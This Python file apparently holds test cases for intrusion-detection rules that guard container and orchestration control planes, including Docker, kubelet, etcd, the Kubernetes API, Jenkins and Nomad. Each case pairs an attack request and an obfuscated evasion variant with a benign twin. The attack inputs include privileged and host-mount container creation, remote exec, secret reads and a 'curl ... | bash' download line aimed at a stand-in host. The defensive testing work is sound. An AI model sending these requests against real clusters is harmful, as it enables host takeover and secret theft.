"""Cases of signatures/packs/control-plane.rules."""
import base64

from case import Case
from talks import again, c, grpc, http, redis, resp, s, several, tcp


def create(host=None, port=2375, uri="/v1.43/containers/create", **more):
    body = {"Image": "alpine", "Cmd": ["sh"], "HostConfig": host or {}}
    return http("POST", uri, [("Content-Type", "application/json")], more.pop("body", body), status=201,
                reply={"Id": "f" * 64, "Warnings": []}, port=port, **more)


def k8s(method, uri, body=b"", **more):
    return http(method, uri, [("Content-Type", "application/json"), ("Accept", "application/json")], body,
                reply={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success"},
                port=more.pop("port", 8001), **more)


def upgrade(uri, protocol="SPDY/3.1", port=10250, extra=(("X-Stream-Protocol-Version", "v4.channel.k8s.io"),), **more):
    return http("POST", uri, [("Connection", "Upgrade"), ("Upgrade", protocol), *extra], status=403, port=port, **more)


def pod(**spec):
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [{"name": "c", "image": "a"}], **spec}}


PRIVILEGED_POD = pod(containers=[{"name": "c", "image": "a", "securityContext": {"privileged": True}}])
HOST_POD = pod(volumes=[{"name": "v", "hostPath": {"path": "/"}}])
PODS = "/api/v1/namespaces/default/pods"
DOWNLOAD = "curl -s http://198.51.100.7/x.sh | bash"
CATALOG_401 = http(uri="/v2/", status=401, port=5000, reply_headers=[("Docker-Distribution-Api-Version", "registry/2.0")])
KUBELET_PODS = b'{"kind":"PodList","apiVersion":"v1","metadata":{},"items":[{"metadata":{"name":"web"}}]}'
REGISTRY_KEY = base64.b64encode(b"/registry/secrets/").decode()
WORKFLOW = {"workflow": {"spec": {"templates": [{"container": {"image": "a", "securityContext": {"privileged": True}}}]}}}
CHROME = {"capabilities": {"alwaysMatch": {"goog:chromeOptions": {"binary": "/usr/bin/python3", "args": ["-cimport os"]}}}}


def argo(values):
    return {"metadata": {"name": "a"}, "spec": {"source": {"helm": {"valueFiles": [values]}}}}


CASES = {
    # --- container engines ---
    6100000: Case(create({"Privileged": True}),
                  create(body='{"Image":"a","HostConfig":{"Priv\\u0069leged" : true}}', uri="//containers//create", port=4243, chunked=9),
                  create({"Privileged": False}), "JSON escape in the name, no version, doubled slashes, chunks, other port"),
    6100001: Case(create({"Binds": ["/:/host"]}),
                  create({"Mounts": [{"Type": "bind", "Source": "/", "Target": "/mnt"}]}, v6=True, cut=7),
                  create({"Binds": ["/srv/data:/data"]}), "Mounts in place of Binds, seven bytes a segment, IPv6"),
    6100002: Case(create({"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]}),
                  create({"Binds": ["//etc//:/x:ro"]}, reorder=True, cut=20),
                  create({"Binds": ["/etc/myapp/app.conf:/app.conf:ro"]}), "doubled slashes, segments out of order"),
    6100003: Case(create({"PidMode": "host"}), create(body='{"HostConfig":{"PidMode":"\\u0068ost"},"Image":"a"}', chunked=5),
                  create({"PidMode": ""}), "JSON escape in the value, chunks of five"),
    6100004: Case(create({"CapAdd": ["SYS_ADMIN"]}), create({"CapAdd": ["NET_BIND_SERVICE", "cap_sys_ptrace"]}, cut=11),
                  create({"CapAdd": ["NET_BIND_SERVICE", "SYS_TIME"]}), "prefix, lower case, second in the list"),
    6100005: Case(create({"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/x", "CgroupPermissions": "rwm"}]}),
                  create({"Devices": [{"PathInContainer": "/d", "PathOnHost": "/dev/nvme0n1"}]}, port=80, chunked=16),
                  create({"Devices": [{"PathOnHost": "/dev/fuse", "PathInContainer": "/dev/fuse", "CgroupPermissions": "rwm"}]}),
                  "another kind of disk, other order of fields, port 80"),
    6100006: Case(create(body={"Image": "alpine", "Cmd": ["sh", "-c", DOWNLOAD]}),
                  create(body={"Entrypoint": ["nsenter", "--target", "1", "-m"], "Image": "a"}, cut=9),
                  create(body={"Image": "alpine", "Cmd": ["curl", "-s", "http://svc/health"]}), "nsenter as the entry point"),
    6100007: Case(http("POST", "/v1.43/containers/web/exec", body={"Cmd": ["id"]}, port=2375),
                  http("POST", "/containers/we%62/exec", body={"Cmd": ["id"]}, port=9999, cut=3),
                  http("GET", "/v1.43/containers/web/json", port=2375), "escaped name, no version, other port"),
    6100008: Case(http("PUT", "/v1.43/containers/web/archive?path=/root", body=b"ustar", port=2375),
                  http("PUT", "/v1.24/containers/web/%61rchive?path=%2F", body=b"ustar", chunked=2, port=80),
                  http("GET", "/v1.43/containers/web/archive?path=/log", port=2375), "escape in the path, chunks"),
    6100009: Case(http("POST", "/v1.43/build?remote=http://198.51.100.7/x.tar", port=2375),
                  http("POST", "/v1.43/build?t=a&remote=%68ttps%3A%2F%2Fh/x.git", port=2375),
                  http("POST", "/v1.43/build?t=web:1", body=b"tar", port=2375), "address in percent escapes"),
    6100010: Case(http("POST", "/v1.43/swarm/join", body={"RemoteAddrs": ["198.51.100.7:2377"], "JoinToken": "SWMTKN"}, port=2375),
                  http("POST", "/v1.30/swarm/%69nit", body={"ListenAddr": "0.0.0.0"}, port=80, v6=True),
                  http("GET", "/v1.43/swarm", port=2375), "init, escape in the path, IPv6"),
    6100011: Case(http("POST", "/v4.0.0/libpod/containers/create", body={"image": "a", "privileged": True}, port=8080),
                  http("POST", "/v5.0.0/libpod/containers/%63reate", body='{"privileged"\t:\n true}', chunked=6, port=80),
                  http("POST", "/v4.0.0/libpod/containers/create", body={"image": "a", "privileged": False}, port=8080),
                  "blanks around the colon, chunks, escape in the path"),
    6100012: Case(http(uri="/_ping", port=2375, reply_headers=[("Api-Version", "1.43"), ("Server", "Docker/24.0.7 (linux)")]),
                  http(uri="/_ping", port=8888, reply_headers=[("Server", "Docker/20.10"), ("API-VERSION", "1.41")], v6=True),
                  http(uri="/", reply_headers=[("Api-Version", "2"), ("Server", "nginx")]), "other order and case of headers, other port"),
    # --- kubelet, container runtime ---
    6100020: Case(http("POST", "/run/kube-system/proxy/main", body="cmd=id", port=10250),
                  http("POST", "/run/kube-system/proxy/m%61in", body="cmd=%69d", port=30250, chunked=3),
                  http("POST", "/run/report", body="name=x", port=8080), "other port, escapes, chunks"),
    6100021: Case(upgrade("/exec/ns/pod/ctr?command=id&output=1"),
                  upgrade("/%65xec/ns/pod/ctr?output=1&command=i%64", "websocket", 30250, [("sec-websocket-protocol", "v4.channel.k8s.io")], cut=13),
                  http(uri="/exec/report/2026/summary", port=8080), "WebSocket in place of SPDY, other port, escapes"),
    6100022: Case(upgrade("/portForward/ns/pod?port=22"),
                  upgrade("//portForward/ns/pod", "websocket", 31000, (), v6=True),
                  http(uri="/portForward/docs/index", port=8080), "doubled slash, other port, IPv6"),
    6100023: Case(http(uri="/runningpods/", port=10255), http(uri="/running%70ods/", port=30255, cut=5),
                  http(uri="/metrics/cadvisor", port=10255), "escape, other port, five bytes a segment"),
    6100024: Case(http(uri="/pods", port=10255, reply=KUBELET_PODS), http(uri="/pods", port=8000, reply=KUBELET_PODS, zipped=True),
                  http(uri="/api/v1/pods", port=8001, reply='{"kind":"PodList","apiVersion":"v1","metadata":{"resourceVersion":"7"},"items":[]}'),
                  "answer compressed, other port"),
    6100025: Case(http(uri="/debug/pprof/heap", port=10255), http(uri="/debug/./%70prof/goroutine?debug=1", port=10249),
                  http(uri="/debug/flags/v", port=10255), "escape and a dot segment"),
    6100026: Case(http(uri="/logs/root/root/.ssh/id_rsa", port=10250), http(uri="/logs/%2e%2E/%2e%2e/etc/hostname", port=10255, cut=6),
                  http(uri="/logs/pods/web.log", port=10250), "escaped dots"),
    6100027: Case(upgrade("/exec/Ab3_dE-9", port=40123), upgrade("/attach/zzzzzzzz", "websocket", 10010, [("sec-websocket-protocol", "v5.channel.k8s.io")]),
                  upgrade("/exec/terminal", "websocket", 8080, [("Sec-WebSocket-Protocol", "tty")]), "WebSocket, attach, other port"),
    6100028: Case(grpc("runtime.v1.RuntimeService", "ExecSync", b"\n\5abcde", port=10010),
                  grpc("runtime.v1alpha2.ImageService", "PullImage", b"\n\1x", port=443, cut=17),
                  grpc("runtime.v1.RuntimeService", "Version", b"", port=10010), "older version, other port"),
    # --- etcd ---
    6100030: Case(http(uri="/v2/keys/?recursive=true", port=2379), http(uri="/v2/%6beys/?sorted=1&recursive=true", port=4001, v6=True),
                  http(uri="/v2/keys/app/config", port=2379), "escape, other port, IPv6"),
    6100031: Case(http("PUT", "/v2/keys/x", body="value=1", port=2379), http("DELETE", "/v2/./keys/x", port=80, cut=4),
                  http("GET", "/v2/keys/x", port=2379), "dot segment, other method, other port"),
    6100032: Case(grpc("etcdserverpb.KV", "Range", b"\n\x12/registry/secrets/\x12\x12/registry/secrets0"),
                  grpc("etcdserverpb.KV", "Range", b"\n\5/regi\x12\1\0" + b"\n\x09/registry", port=12379, cut=10),
                  grpc("etcdserverpb.KV", "Range", b"\n\x0b/app/config"), "other port, ten bytes a segment"),
    6100033: Case(grpc("etcdserverpb.KV", "Put", b"\n\1a\x12\1b"), grpc("etcdserverpb.KV", "DeleteRange", b"\n\1\0", port=8080, v6=True),
                  grpc("etcdserverpb.KV", "Range", b"\n\1a"), "another call, other port, IPv6"),
    6100034: Case(http("POST", "/v3/kv/range", body={"key": REGISTRY_KEY}, port=2379),
                  http("POST", "/v3beta/kv/txn", body='{"x":"","compare":[{"key" :"%s"}]}' % REGISTRY_KEY, port=80, chunked=7),
                  http("POST", "/v3/kv/range", body={"key": base64.b64encode(b"/app/registry").decode()}, port=2379),
                  "older version, another call, chunks"),
    6100035: Case(http("POST", "/v3/maintenance/snapshot", body="{}", port=2379), grpc("etcdserverpb.Maintenance", "Snapshot", b"", port=9000),
                  http("POST", "/v3/maintenance/status", body="{}", port=2379), "gRPC, other port"),
    # --- API server ---
    6100040: Case(k8s("GET", "/api/v1/namespaces/default/secrets"), k8s("GET", "//api/v1/%73ecrets?limit=500", port=8080),
                  k8s("GET", "/api/v1/namespaces/default/configmaps"), "escape, doubled slash, other port"),
    6100041: Case(k8s("POST", PODS, PRIVILEGED_POD),
                  k8s("POST", "/apis/apps/v1/namespaces/x/daemonsets", "spec: {template: {spec: {securityContext: {privileged:   true}}}}", chunked=8),
                  k8s("POST", PODS, pod()), "YAML, a daemon set, chunks"),
    6100042: Case(k8s("POST", PODS, HOST_POD),
                  k8s("PATCH", PODS + "/p", "spec:\n  volumes:\n  - name: v\n    hostPath:\n      path: '/etc'\n", cut=12),
                  k8s("POST", PODS, pod(volumes=[{"name": "v", "hostPath": {"path": "/var/log/app"}}])), "YAML in a PATCH"),
    6100043: Case(k8s("POST", PODS + "/web/exec?command=id&stdin=true"), k8s("GET", "/api/v1/namespaces/x/pods/web/%65xec?tty=1&command=sh", port=30080),
                  k8s("GET", PODS + "/exec/log?container=c"), "escape, other order, other port"),
    6100044: Case(k8s("POST", "/api/v1/namespaces/kube-system/serviceaccounts/admin/token", {"kind": "TokenRequest"}),
                  k8s("POST", "/api/v1/namespaces/x/service%61ccounts/a/token?x=1", {"kind": "TokenRequest"}, h2=True),
                  k8s("GET", "/api/v1/namespaces/x/serviceaccounts/token"), "HTTP/2, escape"),
    6100045: Case(k8s("POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"roleRef": {"name": "cluster-admin"}}),
                  k8s("POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/x/rolebindings", "roleRef: {kind: ClusterRole, name: cluster-admin}", chunked=4),
                  k8s("POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"roleRef": {"name": "view"}}), "YAML, one namespace, chunks of four"),
    6100046: Case(k8s("POST", PODS, 'a: &a ["lol"]\nb: &b [*a,*a,*a,*a,*a,*a]\n'), k8s("POST", PODS, "a: &x9 [1]\nb: [*x9 ,*x9\t,*x9 , *x9, *x9]\n", cut=3),
                  k8s("POST", PODS, "a: &a {x: 1}\nb: [*a,*b,*c]\n"), "blanks between the references"),
    6100047: Case(k8s("POST", "/api/v1/namespaces/x/services", {"spec": {"externalIPs": ["8.8.8.8"]}}),
                  k8s("PATCH", "/api/v1/namespaces/x/%73ervices/s", "spec: {externalIPs: [1.1.1.1]}", h2=True),
                  k8s("POST", "/api/v1/namespaces/x/services", {"spec": {"type": "ClusterIP"}}), "PATCH with YAML over HTTP/2"),
    6100048: Case(http(uri="/api/v1/secret/kube-system/kubernetes-dashboard-certs", port=9090),
                  http(uri="/api/v1/secret/./kubernetes-dashboard/kubernetes-dashbo%61rd-key-holder", port=30000),
                  http(uri="/api/v1/secret/default/app", port=9090), "dot segment, escape, other port"),
    6100049: Case(http("POST", "/api/control/7a/web;<container>/docker_exec_container", port=4040),
                  http("POST", "/api/control/7a/n%3B<host>/host%5Fexec", port=80, cut=8),
                  http("POST", "/api/control/7a/web;<container>/docker_restart_container", port=4040), "a host, escapes, other port"),
    # --- deployment tools ---
    6100060: Case(grpc("hapi.services.tiller.ReleaseService", "InstallRelease", b"\n\1x", port=44134),
                  grpc("hapi.services.tiller.ReleaseService", "ListReleases", b"", port=8080, v6=True),
                  grpc("grpc.health.v1.Health", "Check", b"", port=44134), "another call, other port"),
    6100061: Case(http("POST", "/api/v1/workflows/argo", body=WORKFLOW, port=2746),
                  http("POST", "/api/v1/workflows/%61rgo", body='{"serverDryRun":false,"Workflow":{"hostPath" : {"path":"/"}}}', chunked=10, port=80),
                  http("POST", "/api/v1/workflows/argo", body={"workflow": {"spec": {}}}, port=2746), "a volume of the host, chunks, escape"),
    6100062: Case(http("POST", "/api/v1/applications", body=argo("../../../etc/passwd"), port=8080),
                  http("PUT", "//api/v1/applications/a/spec", body='{"valueFiles" :\n [ "values.yaml", "file:///app/x" ]}', cut=10, port=8080),
                  http("POST", "/api/v1/applications", body=argo("values-prod.yaml"), port=8080), "an address of a file, second in the list"),
    6100064: Case(redis("SET", "app|resources-tree|web|1.8.3", "x"), redis("set", "mfst|annotation:app|web|1", "x", "EX", "60", port=16379, cut=6),
                  tcp(c(resp("AUTH", "secret")), s(b"+OK\r\n"), c(resp("SET", "app|resources-tree|web|1.8.3", "x")), s(b"+OK\r\n"), port=6379),
                  "lower case, other port; the twin has logged in"),
    6100065: Case(http("POST", "/scriptText", body="script=println('id'.execute().text)", port=8080),
                  http("POST", "/computer/(master)/script", body="Submit=Run&script=new+java.lang.Process%42uilder%28%27id%27%29", chunked=9, port=8080),
                  http("POST", "/scriptText", body="script=println(Jenkins.instance.numExecutors)", port=8080), "escapes in the form, another page, chunks"),
    6100066: Case(http("PUT", "/v1/agent/service/register", body={"ID": "x", "Check": {"Args": ["sh", "-c", "id"], "Interval": "10s"}}, port=8500),
                  http("PUT", "/v1/agent/check/regist%65r", body='{"script" : "id"}', port=80, cut=5),
                  http("PUT", "/v1/agent/service/register", body={"ID": "x", "Check": {"HTTP": "http://x/", "Interval": "10s"}}, port=8500),
                  "old name of the field, a check alone"),
    6100067: Case(http("POST", "/v1/jobs", body={"Job": {"TaskGroups": [{"Tasks": [{"Driver": "raw_exec"}]}]}}, port=4646),
                  http("PUT", "/v1/job/x", body='{"Job":{"Driver" : "raw_exec"}}', chunked=3, port=80),
                  http("POST", "/v1/jobs", body={"Job": {"TaskGroups": [{"Tasks": [{"Driver": "docker"}]}]}}, port=4646), "PUT, chunks, other port"),
    6100068: Case(http("POST", "/ws/v1/cluster/apps", body={"am-container-spec": {"commands": {"command": "wget http://198.51.100.7/a"}}}, port=8088),
                  http("POST", "/ws/v1//cluster/%61pps", body='{"am-container-spec":{"commands":{"command" : "echo eA==|base64 -d"}}}', chunked=11, port=8088),
                  http("POST", "/ws/v1/cluster/apps", body={"am-container-spec": {"commands": {"command": "spark-submit job.py"}}}, port=8088),
                  "base64 in place of a download, escapes"),
    6100069: Case(http("POST", "/api/jobs/", body={"entrypoint": DOWNLOAD}, port=8265),
                  http("POST", "/api//jobs/", body='{"runtime_env":{}, "entrypoint"  :"sh -c \\"wget x\\""}', cut=9, port=80),
                  http("POST", "/api/jobs/", body={"entrypoint": "python train.py --epochs 3"}, port=8265), "escaped quotes, other order, other port"),
    6100070: Case(http("POST", "/wd/hub/session", body=CHROME, port=4444),
                  http("POST", "/session", body='{"goog:chromeOptions":{"args":["-c"],"binary" : "/bin/bash"}}', port=80, chunked=12),
                  http("POST", "/wd/hub/session", body={"goog:chromeOptions": {"binary": "/usr/bin/chromium"}}, port=4444), "a shell, other order, chunks"),
    # --- registries ---
    6100080: Case(http(uri="/v2/_catalog", port=5000), http(uri="/v2/%5Fcatalog?n=1000", port=80, cut=2),
                  http(uri="/v2/app/tags/list", port=5000), "escape, other port, two bytes a segment"),
    6100081: Case(http("PUT", "/v2/app/manifests/latest", body="{}", port=5000), http("PUT", "//v2/team/app/m%61nifests/sha256:00", body="{}", port=80),
                  http("GET", "/v2/app/manifests/latest", port=5000), "escape, doubled slash, other port"),
    6100082: Case(again(12, CATALOG_401), again(14, http(uri="/v2/", status=401, port=443, v6=True, reply_headers=[("docker-distribution-API-version", "registry/2.0")])),
                  again(3, CATALOG_401), "other case of the header, IPv6; the twin fails three times"),
    # --- service meshes ---
    6100090: Case(http(uri="/config_dump", port=15000), http(uri="//config%5Fdump?include_eds", port=80), http(uri="/stats/prometheus", port=15000),
                  "escape, doubled slash, other port"),
    6100091: Case(http("POST", "/quitquitquit", port=15000), http("POST", "/healthcheck//f%61il", port=8001, cut=4), http("GET", "/healthcheck/ok", port=15000),
                  "another order, escape, doubled slash"),
    6100092: Case(http(uri="/debug/registryz", port=15014), http(uri="/debug/./config%7A", port=8080), http(uri="/debug/vars", port=15014),
                  "escape, dot segment, other port"),
    6100093: Case(http(uri="//admin", headers=[("x-envoy-attempt-count", "1")]), http(uri="////internal/users", headers=[("X-Envoy-Internal", "true")], cut=5),
                  http(uri="/admin", headers=[("x-envoy-attempt-count", "1")]), "more slashes, other case, segments"),
}
